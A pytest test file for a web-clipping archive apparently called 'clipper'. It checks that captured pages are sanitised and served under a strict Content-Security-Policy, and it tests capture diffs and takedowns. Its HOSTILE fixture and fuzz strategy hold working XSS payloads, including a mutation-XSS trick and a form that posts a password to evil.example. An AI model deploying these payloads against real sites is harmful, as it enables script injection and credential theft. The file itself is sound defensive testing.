"""Captured pages in the desk: what they said, and that nothing of them acts."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clipper import retention
from clipper.archive import Archive
from clipper.extract import inert
from clipper.model import Page
from clipper.store import Role
from clipper.web import Office
from tests import desks, packing

from .test_evidence import LEAD, spoil

HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css"><style>body{background:url(https://evil.example/y)}</style>
<script>alert(1)</script></head>
<body onload="alert(2)" style="background:url(https://evil.example/z)">
<h1 id="judge" class="panel">A &lt;b&gt; headline</h1>
<img src="https://evil.example/pixel" alt="a picture of <i>this</i>" onerror="alert(3)">
<iframe src="https://evil.example" srcdoc="<script>alert(4)</script>"></iframe>
<a href="javascript:alert(5)">a link</a> <a href="https://evil.example/go">another</a>
<form action="https://evil.example/steal"><input name=password><button>Send</button>words in a form</form>
<svg><script>alert(6)</script><foreignObject><p>x</p></foreignObject></svg>
<noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript>
<template><script>alert(9)</script></template><object data="https://evil.example/o"></object>
<details open ontoggle=alert(10)><summary>told</summary>more</details>
<p>{{7*7}} last words</p>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(7)><plaintext><script>alert(11)</script>
"""


@dataclass
class Desk:
    office: Office
    stand: packing.Stand
    client: desks.Client


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    office = desks.office_of(tmp_path)
    with (
        office.store,
        Archive(tmp_path / "archive", now=lambda: packing.NOW) as archive,
    ):
        stand = packing.Stand(tmp_path, office.store, archive)
        yield Desk(office, stand, desks.client_of(office, Role.VIEWER))


class Seen(HTMLParser):
    """The elements and attributes that a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}


def seen(markup: str) -> Seen:
    found = Seen()
    found.feed(markup)
    found.close()
    return found


def words(markup: str) -> str:
    return " ".join(re.sub(r"<[^>]*>", " ", markup).split())


# ---------------------------------------------------------------- inert


def test_nothing_of_a_hostile_page_acts() -> None:
    told = inert.inert(Page(url="https://x.example/", body=HOSTILE.encode()))
    assert told is not None
    found = seen(told)
    assert found.names <= inert.KEPT | inert.ALONE
    assert found.attributes == set()
    for word in ("evil.example", "alert(", "javascript", "onerror"):
        assert word not in told
    assert "A &lt;b&gt; headline" in told
    assert "words in a form" in told
    assert "last words" in told
    assert "[a picture of &lt;i&gt;this&lt;/i&gt;]" in told


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *("<p>", "</p>", "<script>", "</script>", "<svg>", "<math>", "<style>", "</style>"),
                *(
                    "<!--",
                    "-->",
                    "<![CDATA[",
                    "]]>",
                    "<img src=x onerror=y>",
                    "<a href='javascript:x'>",
                ),
                *(
                    "<table>",
                    "<select>",
                    "<template>",
                    "<b title='",
                    "'>",
                    '">',
                    "text",
                    "&lt;script&gt;",
                ),
                *(
                    "<noscript>",
                    "</noscript>",
                    "<textarea>",
                    "</textarea>",
                    "<title>",
                    "<iframe>",
                    "<xmp>",
                ),
                *(
                    "\x00",
                    "&#0;",
                    "<br>",
                    "</body>",
                    "<frameset>",
                    "<plaintext>",
                    "&amp;lt;b&amp;gt;",
                ),
            ]
        ),
        max_size=30,
    )
)
def test_no_markup_brings_an_element_or_attribute_that_is_not_kept(parts: list[str]) -> None:
    told = inert.inert(Page(url="https://x.example/", body="".join(parts).encode()))
    found = seen(told or "")
    assert found.names <= inert.KEPT | inert.ALONE
    assert found.attributes == set()


def test_the_words_stand_in_their_order() -> None:
    body = b"<div>one<p>two <b>three</b> four</p>five<br>six<ul><li>seven</li></ul>eight</div>"
    told = inert.inert(Page(url="https://x.example/", body=body))
    assert (
        told == "<div>one<p>two <b>three</b> four</p>five<br>six<ul><li>seven</li></ul>eight</div>"
    )


@pytest.mark.parametrize("body", [b"%PDF-1.7", b"", b"\x89PNG\r\n\x1a\n"])
def test_what_is_no_page_is_none(body: bytes) -> None:
    assert not inert.inert(Page(url="https://x.example/", body=body))


def test_a_page_of_endless_elements_is_cut_and_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inert, "MOST_NODES", 50)
    told = inert.inert(
        Page(url="https://x.example/", body=b"<div>" + b"<p>x</p>" * 200 + b"</div>")
    )
    assert told is not None
    assert told.endswith(f"{inert.CUT}</div>")


# ---------------------------------------------------------------- the desk


def test_a_captured_page_is_served_where_it_can_do_nothing(desk: Desk) -> None:
    number, snapshot = desk.stand.clip("1", "Sold", LEAD)
    answer = desk.client.get(f"/clippings/{number}/captures/1")
    assert answer.status_code == 200
    policy = [part.strip() for part in answer.headers["Content-Security-Policy"].split(";")]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy
    assert not any("self" in part or "unsafe" in part for part in policy)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    assert snapshot.digest in answer.text
    assert "The vote was seven to two" in words(answer.text)


def test_a_hostile_page_is_inert_in_the_desk(desk: Desk) -> None:
    number, _ = desk.stand.clip("1", 'Sold"><script>alert(0)</script>', LEAD)
    desk.stand.correct(number, "Hostile", HOSTILE, packing.NOW + packing.DAY)
    for version in (1, 2):
        told = desk.client.get(f"/clippings/{number}/captures/{version}").text
        found = seen(told.split("<hr>", 1)[1])
        assert found.names <= inert.KEPT | inert.ALONE
        assert "<script" not in told


def test_the_captures_are_listed_with_what_changed(desk: Desk) -> None:
    number, first = desk.stand.clip("1", "Sold", LEAD)
    second = desk.stand.correct(
        number, "Sold in part", LEAD.replace("seven", "six"), packing.NOW + packing.DAY
    )
    listed = desk.client.get(f"/clippings/{number}/captures").text
    assert first.digest in listed
    assert second.digest in listed
    assert "clipped from this" in listed
    changed = desk.client.get(f"/clippings/{number}/captures/changes?old=1&new=2").text
    assert "Sold<ins> in part</ins>" in changed
    assert "<del>seven</del><ins>six</ins>" in changed
    judged = desk.client.get(f"/clippings/{number}").text
    assert f"/clippings/{number}/captures" in judged


def test_a_damaged_capture_is_told_and_not_shown(desk: Desk) -> None:
    number, snapshot = desk.stand.clip("1", "Sold", LEAD)
    spoil(desk.stand, snapshot)
    listed = desk.client.get(f"/clippings/{number}/captures").text
    assert "missing or damaged" in listed
    answer = desk.client.get(f"/clippings/{number}/captures/1")
    assert answer.status_code == 404
    assert str(desk.stand.folder) not in answer.text


@pytest.mark.parametrize(
    "path", ["captures/7", "captures/changes", "captures/changes?old=1&new=x", "captures/changes?old=1&new=9"]
)  # fmt: skip
def test_a_capture_that_is_not_there_is_not_found(desk: Desk, path: str) -> None:
    number, _ = desk.stand.clip("1", "Sold", LEAD)
    assert desk.client.get(f"/clippings/{number}/{path}").status_code == 404


def test_the_pages_speak_spanish(desk: Desk) -> None:
    number, _ = desk.stand.clip("1", "Sold", LEAD)
    spanish = {"Accept-Language": "es"}
    assert "Capturas" in desk.client.get(f"/clippings/{number}/captures", headers=spanish).text
    page = desk.client.get(f"/clippings/{number}/captures/1", headers=spanish).text
    assert "Capturada el" in page


def test_a_page_that_was_removed_on_purpose_is_told_as_such_and_not_as_damage(desk: Desk) -> None:
    number, _ = desk.stand.clip("1", "City sells", LEAD)
    plan = retention.takedown(desk.office.store, [number])
    retention.forget(
        desk.office.store, desk.stand.archive, plan, who="ana", why="Asked.", now=packing.NOW
    )
    page = desk.client.get(f"/clippings/{number}/captures").text
    assert "removed from the archive on purpose" in page
    assert "missing or damaged" not in page
    assert desk.client.get(f"/clippings/{number}/captures/1").status_code == 404
